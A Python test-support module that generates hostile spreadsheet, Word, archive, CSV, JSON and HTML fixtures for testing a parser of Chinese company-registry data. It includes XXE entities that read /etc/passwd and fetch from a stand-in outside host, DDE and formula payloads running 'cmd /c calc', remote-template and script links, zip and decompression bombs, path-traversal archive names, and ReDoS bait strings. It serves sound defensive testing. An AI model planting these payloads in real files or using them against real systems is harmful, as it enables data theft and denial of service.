"""More files made to harm whoever opens them, one for each way in that `hostile_files` leaves out: links to elsewhere,
live exchange of data, entities in other parts, archives in archives, wrong letters, old binary workbooks, locks."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import zipfile
from collections.abc import Callable

from tests.support.hostile_files import HEAD, MB, SHEET, WORD, WORD_END, cell, packed, sheet, word, workbook

ROW = "新乡甲隔膜有限公司,新乡市,锂电池隔膜\n"
KIN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OUTSIDE = "http://out.example/x"
ENTITY = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "{OUTSIDE}.dtd">%p;]>'
# Made for patterns that take time by the square of a text; each just under what a cell may hold.
BAIT = tuple(
    b[:32_000]
    for b in (
        "((((" * 9_000,
        "a" * 60_000 + "!",
        "1-" * 30_000,
        "1," * 30_000,
        " " * 90_000 + "x",
        "（" * 30_000,
        "省市县" * 30_000,
        "有限公司" * 30_000,
        "\u3000" * 60_000 + "b",
        "0" * 90_000,
        "." * 90_000,
        ";" * 90_000,
        "、" * 60_000,
        "a@" * 40_000,
        "年" * 60_000,
        "万元亿元" * 20_000,
        "%(" * 40_000,
        "2020-" * 20_000,
        "-" * 90_000,
        "曾用名：" * 20_000,
    )
)
HEADINGS = ("企业名称", "所属城市", "主要产品")


def table(*rows: tuple[str, ...]) -> bytes:
    """A sheet with the headings and these rows."""
    lines = enumerate((HEADINGS, *rows), 1)
    return sheet(
        *(f'<row r="{n}">{"".join(cell(f"{chr(65 + i)}{n}", t) for i, t in enumerate(r))}</row>' for n, r in lines)
    )


GOOD = ("新乡甲隔膜有限公司", "新乡市", "锂电池隔膜")


def relations(*kinds: tuple[str, str]) -> bytes:
    """Relations to targets outside of the file."""
    one = '<Relationship Id="o{}" Type="{}/{}" Target="{}" TargetMode="External"/>'
    return RELS.format("".join(one.format(i, KIN, k, t) for i, (k, t) in enumerate(kinds))).encode()


def numbers(*values: str) -> bytes:
    """A sheet whose second column holds these raw values as numbers, in a date's style."""
    rows = [
        f'<row r="{n}">{cell(f"A{n}", f"新乡第{n}有限公司")}<c r="B{n}"><v>{v}</v></c></row>'
        for n, v in enumerate(values, 2)
    ]
    return sheet(f'<row r="1">{cell("A1", "企业名称")}{cell("B1", "注册资本")}</row>', *rows)


def nested(times: int) -> bytes:
    """An archive in an archive in an archive …"""
    inner = packed(a__csv=(HEAD + ROW).encode())
    for _ in range(times):
        inner = packed(a__zip=inner)
    return inner


def zipped(members: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive with members of any name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name) if "\\" in name else name, content)
    return out.getvalue()


def overlapping(times: int) -> bytes:
    """One packed body that thousands of entries of the directory point at (as David Fifield's bombs do)."""
    raw = zipped({"a.csv": b"," * (8 * MB)})
    start = raw.rfind(b"PK\x01\x02")
    end = raw.rfind(b"PK\x05\x06")
    entry = raw[start:end]
    tail = bytearray(raw[end:])
    tail[8:10] = tail[10:12] = struct.pack("<H", times)
    tail[12:16] = struct.pack("<I", len(entry) * times)
    return raw[:start] + entry * times + bytes(tail)


def compound(streams: dict[str, bytes], chain: Callable[[list[int]], None] | None = None) -> bytes:
    """An old compound file (OLE 2) with these streams, each at least 4,096 bytes; `chain` may spoil its table of
    sectors."""
    size = 512
    padded = {n: c.ljust(max(4_096, -(-len(c) // size) * size), b"\0") for n, c in streams.items()}
    table: list[int] = [0xFFFFFFFD]  # the table's own sector
    starts = {}
    body = b""
    directory = len(table)
    entries = -(-(len(streams) + 1) * 128 // size)
    table += [directory + i + 1 for i in range(entries - 1)] + [0xFFFFFFFE]
    for name, content in padded.items():
        starts[name] = len(table)
        n = len(content) // size
        table += [starts[name] + i + 1 for i in range(n - 1)] + [0xFFFFFFFE]
        body += content
    if chain is not None:
        chain(table)
    assert len(table) <= 128, "one sector holds the table"

    def entry(name: str, kind: int, child: int, right: int, start: int, length: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        head = raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, 0xFFFFFFFF, right, child)
        return head + b"\0" * 36 + struct.pack("<IQ", start, length)

    names = list(padded)
    rows = entry("Root Entry", 5, 1, 0xFFFFFFFF, 0xFFFFFFFE, 0)
    for i, name in enumerate(names, 1):
        rows += entry(name, 2, 0xFFFFFFFF, i + 1 if i < len(names) else 0xFFFFFFFF, starts[name], len(padded[name]))
    rows = rows.ljust(entries * size, b"\0")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    head += struct.pack(
        "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, directory, 0, 4_096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
    )
    head += struct.pack("<I", 0) + b"\xff" * 432
    fat = struct.pack(f"<{len(table)}I", *table).ljust(size, b"\xff")
    return head[:512] + fat + rows + body


def record(kind: int, content: bytes) -> bytes:
    return struct.pack("<HH", kind, len(content)) + content


def biff(*records: bytes, sheet_at: int | None = None, globals_: bytes = b"") -> bytes:
    """An Excel 97 workbook of one sheet, whose records are given."""
    begin = record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))
    name = record(0x85, struct.pack("<IBBBB", 0, 0, 0, 1, 0) + b"a")
    end = record(0x0A, b"")
    at = len(begin + globals_ + name + end) if sheet_at is None else sheet_at
    name = record(0x85, struct.pack("<IBBBB", at, 0, 0, 1, 0) + b"a")
    inside = record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0, 0, 0, 0)) + b"".join(records) + end
    return compound({"Workbook": begin + globals_ + name + end + inside})


def label(row: int, column: int, text: str) -> bytes:
    raw = text.encode("utf-16-le")
    return record(0x204, struct.pack("<HHHHB", row, column, 0, len(text), 1) + raw)


def ods(body: str, extra: dict[str, bytes] | None = None, start: str = "") -> bytes:
    """An OpenDocument sheet whose table is given."""
    names = "".join(
        f' xmlns:{k}="urn:oasis:names:tc:opendocument:xmlns:{v}:1.0"'
        for k, v in {"office": "office", "table": "table", "text": "text"}.items()
    )
    content = (
        f'<?xml version="1.0"?>{start}<office:document-content{names}><office:body><office:spreadsheet>'
        f'<table:table table:name="a">{body}</table:table></office:spreadsheet></office:body></office:document-content>'
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    files = (
        f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        f'manifest:full-path="/" manifest:media-type="{kind}"/></manifest:manifest>'
    )
    return zipped(
        {
            "mimetype": kind.encode(),
            "META-INF/manifest.xml": files.encode(),
            "content.xml": content.encode(),
            **(extra or {}),
        }
    )


def field(text: str, repeated: str = "") -> str:
    return f'<table:table-cell office:value-type="string"{repeated}><text:p>{text}</text:p></table:table-cell>'


def _linked() -> dict[str, Callable[[], bytes]]:
    """What would have a spreadsheet or Word fetch or start something."""
    dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    formula = f'<row r="2">{cell("A2", GOOD[0])}<c r="B2" t="str"><f>cmd|\'/c calc\'!A0</f><v>新乡市</v></c></row>'
    head = f'<row r="1">{cell("A1", "企业名称")}{cell("B1", "所属城市")}</row>'
    web = f'<row r="2">{cell("A2", GOOD[0])}<c r="B2" t="str"><f>WEBSERVICE("{OUTSIDE}")</f><v>新乡市</v></c></row>'
    paragraph = "<w:p><w:r><w:t>先征后返</w:t></w:r></w:p>"
    chunk = f'{paragraph}<w:altChunk xmlns:r="{KIN}" r:id="o0"/>'
    live = '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://out.example/x&quot;"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>'
    return {
        "external_links.xlsx": lambda: workbook(
            table(GOOD),
            extra={
                "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    ("externalLinkPath", "file:////out.example/share/a.xlsx"), ("image", OUTSIDE)
                ),
            },
        ),
        "dde.xlsx": lambda: workbook(sheet(head, formula), extra={"xl/externalLinks/externalLink1.xml": dde.encode()}),
        "webservice.xlsx": lambda: workbook(sheet(head, web)),
        "remote_template.docx": lambda: word(
            paragraph + live, **{"word/_rels/settings.xml.rels": relations(("attachedTemplate", f"{OUTSIDE}.dotm"))}
        ),
        "remote_chunk.docx": lambda: word(
            chunk, **{"word/_rels/document.xml.rels": relations(("aFChunk", OUTSIDE), ("image", OUTSIDE))}
        ),
        "page_with_script.xls": lambda: (
            f"<html><head><base href={OUTSIDE}><link rel=stylesheet href={OUTSIDE}.css>"
            f"<script src={OUTSIDE}.js></script>"
            "<script>while(1){}</script></head><body onload=alert(1)><table><tr><td>企业名称<td>所属城市</tr>"
            f"<tr><td>新乡甲有限公司<iframe src={OUTSIDE}></iframe><td>新乡市</tr></table></body></html>"
        ).encode(),
    }


def _entities() -> dict[str, Callable[[], bytes]]:
    strings = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&e;</t></si></sst>'
    use = sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    late = b"<!--" + b"x" * 9_000 + b"-->" + ENTITY.encode() + table(GOOD)
    return {
        "entity_in_strings.xlsx": lambda: workbook(use, (ENTITY + strings).encode()),
        "laughs_in_strings.xlsx": lambda: workbook(
            use,
            b"<!DOCTYPE x [<!ENTITY a 'lol'>"
            + b"".join(b"<!ENTITY %c '%s'>" % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(12))
            + b"]>"
            + strings.replace("&e;", "&m;").encode(),
        ),
        "entity_late.xlsx": lambda: workbook(late),
        "entity_in_styles.xlsx": lambda: workbook(
            table(GOOD), extra={"xl/styles.xml": f"{ENTITY}<styleSheet>&e;</styleSheet>".encode()}
        ),
        "utf16_sheet.xlsx": lambda: workbook(
            b"\xff\xfe"
            + f'{SHEET}<sheetData><row r="1">{cell("XFD1048576")}</row></sheetData></worksheet>'.encode("utf-16-le")
        ),
        "entity.ods": lambda: ods(f"<table:table-row>{field('&e;')}</table:table-row>", start=ENTITY),
        "entity_in_page.xls": lambda: (
            ENTITY.replace("x [", "html [") + "<html><table><tr><td>企业名称<td>所属城市</tr>"
            "<tr><td>&e;甲有限公司<td>新乡</tr></table>"
        ).encode(),
    }


def _archives() -> dict[str, Callable[[], bytes]]:
    return {
        "nested.zip": lambda: nested(60),
        "entries_65535.zip": lambda: zipped({f"{i}.csv": b"" for i in range(65_535)}, zipfile.ZIP_STORED),
        "entries_65535.xlsx": lambda: zipped(
            {"[Content_Types].xml": b"<Types/>", **{f"xl/{i}.xml": b"" for i in range(65_000)}}, zipfile.ZIP_STORED
        ),
        "overlapping.zip": lambda: overlapping(1_000),
        "overlapping.xlsx": lambda: overlapping(20_000),
        "lzma_bomb.zip": lambda: zipped({"a.csv": b"," * (150 * MB)}, zipfile.ZIP_LZMA),
        "bz2_bomb.zip": lambda: zipped({"a.csv": b"," * (150 * MB)}, zipfile.ZIP_BZIP2),
        "bad_names.zip": lambda: zipped(
            {
                n: (HEAD + ROW).encode()
                for n in ("../" * 40 + "etc/passwd.csv", "C:\\a.csv", "CON.csv", "甲" * 9_000 + ".csv", "\u202evsc.csv")
            }
        ),
        "gzip_in_gzip.csv.gz": lambda: gzip.compress(gzip.compress((HEAD + ROW).encode())),
        "many_gzips.csv.gz": lambda: gzip.compress(b"") * 400_000,
        "gzip_named.csv": lambda: gzip.compress(b"\n" * (200 * MB), 6),
        "gzip_named.xlsx": lambda: gzip.compress((HEAD + ROW).encode()),
        "bz2_named.csv": lambda: bz2.compress(b"a," * 9_000_000),
        "xz_named.csv": lambda: lzma.compress(b"a," * 9_000_000),
        "seven_zip.xlsx": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(range(256)) * 50,
        "rar.csv": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(range(256)) * 50,
        "pdf.xlsx": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 50,
        "program.csv": lambda: b"\x7fELF" + bytes(range(256)) * 500,
        "picture.csv": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 500,
        "database.csv": lambda: b"SQLite format 3\0" + bytes(4_000),
    }


def _sheets() -> dict[str, Callable[[], bytes]]:
    merges = "".join(f'<mergeCell ref="A{i}:C{i + 1}"/>' for i in range(1, 400_000, 2))
    close = b"</worksheet>"

    def merged(ranges: str) -> bytes:
        return workbook(table(GOOD).replace(close, f"<mergeCells>{ranges}</mergeCells>".encode() + close))

    def dimension(text: str) -> bytes:
        return workbook(table(GOOD).replace(b"<sheetData>", f'<dimension ref="{text}"/><sheetData>'.encode(), 1))

    return {
        "dimension_letters.xlsx": lambda: dimension("A1:ZZZZZZZZZZZZ99999999999999999999"),
        "dimension_back.xlsx": lambda: dimension("XFD1048576:A1"),
        "dimension_nothing.xlsx": lambda: dimension(":::"),
        "merged_all.xlsx": lambda: merged('<mergeCell ref="A1:XFD1048576"/>'),
        "merged_column.xlsx": lambda: merged('<mergeCell ref="A2:A1048576"/>'),
        "merged_often.xlsx": lambda: merged(merges),
        "merged_over_itself.xlsx": lambda: merged('<mergeCell ref="A1:Z1000"/>' * 20_000),
        "merged_back.xlsx": lambda: merged('<mergeCell ref="C9:A1"/><mergeCell ref="A0:A0"/><mergeCell ref=""/>'),
        "single_quotes.xlsx": lambda: workbook(sheet("<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>")),
        "row_of_twenty_digits.xlsx": lambda: workbook(sheet(f'<row r="{"9" * 20}">{cell("A" + "9" * 20)}</row>')),
        "row_nought.xlsx": lambda: workbook(sheet(f'<row r="0">{cell("A0")}</row><row r="-1">{cell("A-1")}</row>')),
    }


def _odd_sheets() -> dict[str, Callable[[], bytes]]:
    """Cells without a place, values that are none, parts elsewhere."""
    return {
        "cells_without_place.xlsx": lambda: workbook(sheet("<row>" + "<c><v>1</v></c>" * 900_000 + "</row>")),
        "rows_without_place.xlsx": lambda: workbook(sheet("<row><c><v>1</v></c></row>" * 1_500_000)),
        "strings_out_of_range.xlsx": lambda: workbook(
            sheet(
                *(
                    f'<row r="{i}"><c r="A{i}" t="s" s="{s}"><v>{s}</v></c></row>'
                    for i, s in enumerate(("-1", "4294967296", "99", "x"), 1)
                )
            )
        ),
        "numbers.xlsx": lambda: workbook(
            numbers("1e308", "-1e308", "1e309", "NaN", "inf", "9" * 400, "0x10", "", "1e-320", "36000000", "-1")
        ),
        "dates.xlsx": lambda: workbook(
            numbers("36524000", "-99999999", "2958466", "1e15"),
            extra={
                "xl/styles.xml": b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<cellXfs count="1"><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
            },
        ),
        "sheet_elsewhere.xlsx": lambda: workbook(
            sheet(),
            extra={
                "xl/_rels/workbook.xml.rels": RELS.format(
                    f'<Relationship Id="rId1" Type="{KIN}/worksheet" Target="../../../../etc/passwd"/>'
                ).encode()
            },
        ),
        "far_cell_elsewhere.xlsx": lambda: workbook(
            sheet(),
            extra={
                "xl/other/a.xml": sheet(f'<row r="1">{cell("XFD1048576")}</row>'),
                "xl/_rels/workbook.xml.rels": RELS.format(
                    f'<Relationship Id="rId1" Type="{KIN}/worksheet" Target="other/a.xml"/>'
                ).encode(),
            },
        ),
        "names_of_sheets.xlsx": lambda: workbook(
            table(GOOD),
            extra={
                "xl/workbook.xml": (
                    f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{KIN}">'
                    "<sheets>"
                    + "".join(f'<sheet name="{"甲" * 5_000}{i}" sheetId="{i}" r:id="rId1"/>' for i in range(1, 150))
                    + "</sheets></workbook>"
                ).encode()
            },
        ),
        "headings_everywhere.xlsx": lambda: workbook(table(*((HEADINGS, GOOD) * 20_000))),
        "locked.xlsx": lambda: compound({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": b"\1" * 5_000}),
    }


def _binary() -> dict[str, Callable[[], bytes]]:
    def round_and_round(table: list[int]) -> None:
        table[3:6] = [4, 5, 3]

    rows = label(0, 0, "企业名称") + label(0, 1, "所属城市") + label(1, 0, GOOD[0]) + label(1, 1, "新乡市")
    return {
        "good.xls": lambda: biff(rows),
        "sectors_in_a_ring.xls": lambda: compound({"Workbook": b"\x09\x08" * 4_000}, round_and_round),
        "directory_in_a_ring.xls": lambda: compound({"Workbook": b"x"}, lambda t: t.__setitem__(1, 1)),
        "table_of_itself.xls": lambda: compound(
            {"Workbook": b"x"}, lambda t: t.__setitem__(slice(0, None), [0] * len(t))
        ),
        "far_cell.xls": lambda: biff(rows + label(65_535, 65_535, "甲")),
        "dimensions.xls": lambda: biff(record(0x200, struct.pack("<IIHHH", 0, 0xFFFFFFFF, 0, 0xFFFF, 0)) + rows),
        "merged.xls": lambda: biff(rows + record(0xE5, struct.pack("<H", 1_000) + b"\0\0\xff\xff\0\0\xff\xff" * 1_000)),
        "strings_without_end.xls": lambda: biff(
            rows, globals_=record(0xFC, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF))
        ),
        "long_record.xls": lambda: biff(record(0x204, b"\0" * 8 + b"\xff\xff")),
        "sheet_at_itself.xls": lambda: biff(rows, sheet_at=0),
        "sheet_far_away.xls": lambda: biff(rows, sheet_at=0xFFFFFFF0),
        "locked.xls": lambda: biff(rows, globals_=record(0x2F, b"\1\0\1\0\1\0" + b"\7" * 48)),
        "macro.xls": lambda: biff(
            rows, globals_=record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b"\0\1")
        ),
    }


def _letters() -> dict[str, Callable[[], bytes]]:
    start = HEAD.encode()
    long = "甲" * 60_000
    return {
        "one_cell_10_mb.csv": lambda: start + b"\xe7\x94\xb2" * (10 * MB // 3) + b",a,b\n",
        "utf7.csv": lambda: b"+TwFOGlQNeftSXg-,+YkBc2tc0XgI-\n+ZbBOYXUy-,+ADw-script+AD4-\n",
        "overlong.csv": lambda: start + b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf,\xc1\x81,a\n",
        "surrogates.csv": lambda: start + b"\xed\xa0\x80\xed\xb0\x80,\xed\xbf\xbf,a\n" * 50,
        "lone_utf16.csv": lambda: b"\xff\xfe" + HEAD.encode("utf-16-le") + b"\x00\xd8,\x00a\x00\n\x00",
        "utf32.csv": lambda: (HEAD + ROW).encode("utf-32"),
        "nul_in_name.csv": lambda: start + b"\xe6\x96\xb0\0\xe4\xb9\xa1,\0,a\n",
        "columns_1000000.csv": lambda: b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000,
        "headings_1900.csv": lambda: (",".join(f"列{i}" for i in range(1_900)) + "\n" + "甲," * 1_899 + "\n").encode(),
        "long_heading.csv": lambda: f"企业名称,{long},主要产品\n{ROW}".encode(),
        "long_name.csv": lambda: f"{HEAD}{long}有限公司,新乡市,隔膜\n".encode(),
        "control_letters.csv": lambda: (
            start + bytes(range(1, 32)).replace(b"\n", b"").replace(b"\r", b"") + b"\xe7\x94\xb2,a,b\n"
        ),
        "combining.csv": lambda: (HEAD + "甲" + "\u0301" * 90_000 + ",新乡,隔膜\n").encode(),
    }


def _bait() -> dict[str, Callable[[], bytes]]:
    """Cells made for patterns that take long, values that cannot be."""
    bait = BAIT
    return {
        "bait_names.csv": lambda: (HEAD + "".join(f'"{b}",新乡市,隔膜\n' for b in bait)).encode(),
        "bait_places.csv": lambda: (
            HEAD + "".join(f'新乡{i}有限公司,"{b}",隔膜\n' for i, b in enumerate(bait))
        ).encode(),
        "bait_products.csv": lambda: (
            HEAD + "".join(f'新乡{i}有限公司,新乡市,"{b}"\n' for i, b in enumerate(bait))
        ).encode(),
        "bait_other.csv": lambda: (
            "企业名称,注册资本,成立日期,员工人数,统一社会信用代码,经营状态,曾用名,注册地址,国标行业代码,营业收入\n"
            + "".join(f"新乡{i}有限公司" + f',"{b}"' * 9 + "\n" for i, b in enumerate(bait))
        ).encode(),
        "bait_headings.csv": lambda: (
            ",".join(f'"{b}"' for b in ("企业名称", *bait)) + "\n" + "甲," * len(bait) + "\n"
        ).encode(),
        "dates.csv": lambda: (
            "企业名称,成立日期,注册资本\n"
            + "".join(
                f"新乡{i}有限公司,{d},{n}\n"
                for i, (d, n) in enumerate(
                    (
                        ("99999-01-01", "1e308"),
                        ("0000-00-00", "1e999"),
                        ("-1", "NaN"),
                        ("2020-02-31", "inf"),
                        ("9" * 99, "-0"),
                        ("١٩٩٩", "٣"),
                    )
                )
            )
        ).encode(),
        "open_quotes_in_rows.csv": lambda: (HEAD + '新乡"甲"有限公司,"新乡,"隔膜"\n' * 2_000).encode(),
        "all_separators.csv": lambda: (",;\t|，；" * 60_000).encode(),
        "one_column.csv": lambda: b"a\n" * 1_900_000,
    }


def _json() -> dict[str, Callable[[], bytes]]:
    return {
        "deep_line.jsonl": lambda: b'{"name": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n",
        "deep_keys.json": lambda: b'[{"name": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}]",
        "not_numbers.jsonl": lambda: (
            b'{"name": "\xe7\x94\xb2", "employees": NaN, "revenue_yi": Infinity, "capital": -1e999}\n'
        ),
        "surrogate.jsonl": lambda: b'{"name": "\\ud800\\udc00\\ud800", "\\ud83d": "\\u0000\\u202e"}\n' * 3,
        "same_keys.json": lambda: b"[{" + b'"name": 1, ' * 90_000 + b'"name": 2}]',
        "list_of_nothing.json": lambda: b"[" + b"null," * 900_000 + b"null]",
        "lists.json": lambda: b"[[[[[[]]]]]]",
        "empty_keys.jsonl": lambda: b'{"": ""}\n{"": null}\n',
        "text.json": lambda: b'"' + b"a" * (3 * MB) + b'"',
        "not_json.json": lambda: (HEAD + ROW).encode(),
    }


def _open_document() -> dict[str, Callable[[], bytes]]:
    repeated = ' table:number-columns-repeated="1000000000"'
    often = field("甲", repeated.replace("000000000", "9000"))
    again = '<table:table-row table:number-rows-repeated="1000000000">'
    line = f"<table:table-row>{''.join(map(field, HEADINGS))}</table:table-row>"
    locked = (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        b'manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'
    )
    return {
        "good.ods": lambda: ods(line + f"<table:table-row>{''.join(map(field, GOOD))}</table:table-row>"),
        "columns.ods": lambda: ods(line + f"<table:table-row>{field('甲', repeated)}</table:table-row>"),
        "rows.ods": lambda: ods(line + f"{again}{field('甲')}</table:table-row>"),
        "rows_and_columns.ods": lambda: ods(again.replace("000000000", "0000") + often + "</table:table-row>"),
        "empty_rows.ods": lambda: ods(f"{again}<table:table-cell/></table:table-row>{line}"),
        "negative.ods": lambda: ods(
            line.replace("<table:table-row>", '<table:table-row table:number-rows-repeated="-5">')
        ),
        "deep.ods": lambda: ods("<table:table-row>" * 60_000),
        "locked.ods": lambda: ods(line, {"META-INF/manifest.xml": locked}),
        "spaces.ods": lambda: ods(
            "<table:table-row>{}</table:table-row>".format(field('<text:s text:c="4000000000"/>'))
        ),
    }


def _pages() -> dict[str, Callable[[], bytes]]:
    row = "<tr><td>企业名称<td>所属城市</tr><tr><td>甲<td>新乡</tr>"
    return {
        "tables_in_tables.html": lambda: b"<html>" + b"<table><tr><td>" * 60_000,
        "many_tables.html": lambda: ("<html>" + f"<table>{row}</table>" * 20_000).encode(),
        "spans_often.html": lambda: ("<html><table>" + "<tr><td rowspan=300 colspan=300>甲</td></tr>" * 3_000).encode(),
        "references.html": lambda: ("<html><table><tr><td>" + "&#x10ffff;&#0;&#xd800;&amp" * 90_000).encode(),
        "wrong_charset.html": lambda: ("<html><meta charset=utf-7><table>" + row + "</table>").encode(),
        "rot13_charset.html": lambda: ("<html><meta charset=rot13><table>" + row + "</table>").encode(),
        "zip_charset.html": lambda: ("<html><meta charset=zip><table>" + row + "</table>").encode(),
        "open_marks.html": lambda: b"<html><table>" + b"<" * 900_000,
        "declarations.html": lambda: b"<html><table>" + b"<![CDATA[" * 100_000,
    }


def _more_papers() -> dict[str, Callable[[], bytes]]:
    cell_ = "<w:tc><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc>"
    grid = '<w:tc><w:tcPr><w:gridSpan w:val="20000"/></w:tcPr><w:p/></w:tc>'
    inner = "<w:p/>"
    for _ in range(60):
        inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
    merged = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc>"
    settings = relations(("attachedTemplate", OUTSIDE))
    return {
        "grid.docx": lambda: word("<w:tbl>" + f"<w:tr>{grid * 20}</w:tr>" * 100 + "</w:tbl>"),
        "tables_in_tables.docx": lambda: word(inner),
        "merged_down.docx": lambda: word("<w:tbl>" + f"<w:tr>{merged * 3}</w:tr>" * 4_000 + "</w:tbl>"),
        "wide.docx": lambda: word("<w:tbl><w:tr>" + cell_ * 20_000 + "</w:tr></w:tbl>"),
        "boxes.docx": lambda: word(
            "<w:p><w:r>" + "<w:txbxContent>" * 200 + "<w:p/>" + "</w:txbxContent>" * 200 + "</w:r></w:p>"
        ),
        "sections.docx": lambda: word("<w:p><w:pPr><w:sectPr/></w:pPr></w:p>" * 9_000),
        "entity_in_relations.docx": lambda: word(
            "<w:p/>", **{"word/_rels/document.xml.rels": ENTITY.encode() + settings}
        ),
        "entity_utf16.docx": lambda: word(
            "<w:p/>", **{"word/settings.xml": (ENTITY + WORD + WORD_END).encode("utf-16")}
        ),
        "relation_to_itself.docx": lambda: word(
            "<w:p/>",
            **{
                "word/_rels/document.xml.rels": RELS.format(
                    f'<Relationship Id="a" Type="{KIN}/header" Target="document.xml"/>'
                ).encode()
            },
        ),
        "relation_up.docx": lambda: word(
            "<w:p/>",
            **{
                "word/_rels/document.xml.rels": RELS.format(
                    f'<Relationship Id="a" Type="{KIN}/header" Target="../../../etc/passwd"/>'
                ).encode()
            },
        ),
        "many_parts.docx": lambda: word("<w:p/>", **{f"word/p{i}.xml": b"<a/>" for i in range(30_000)}),
        "old_word.docx": lambda: compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 5_000}),
        "utf16.txt": lambda: "先征后返".encode("utf-16"),
        "nul.txt": lambda: b"\0" * MB,
        "one_line.md": lambda: "零地价返还税收".encode() * (400_000),
        "bait.txt": lambda: (
            "补" * 200_000 + "\n" + "奖励" * 100_000 + "\n" + "税收返还" * 50_000 + "地方留存" * 50_000 + "%" * 99_999
        ).encode(),
        "numbers.txt": lambda: ("1.1." * 300_000 + "，" + "（一）" * 90_000).encode(),
    }


KINDS = (
    _linked()
    | _entities()
    | _archives()
    | _sheets()
    | _odd_sheets()
    | _binary()
    | _letters()
    | _bait()
    | _json()
    | _open_document()
    | _pages()
)
PAPER_KINDS = {n: KINDS.pop(n) for n in [n for n in KINDS if n.endswith(".docx")]} | _more_papers()
# What is whole, or harmless in what it names: it is read, and nothing outside of it is.
SOUND = ("external_links.xlsx", "dde.xlsx", "webservice.xlsx", "page_with_script.xls", "good.ods", "good.xls")
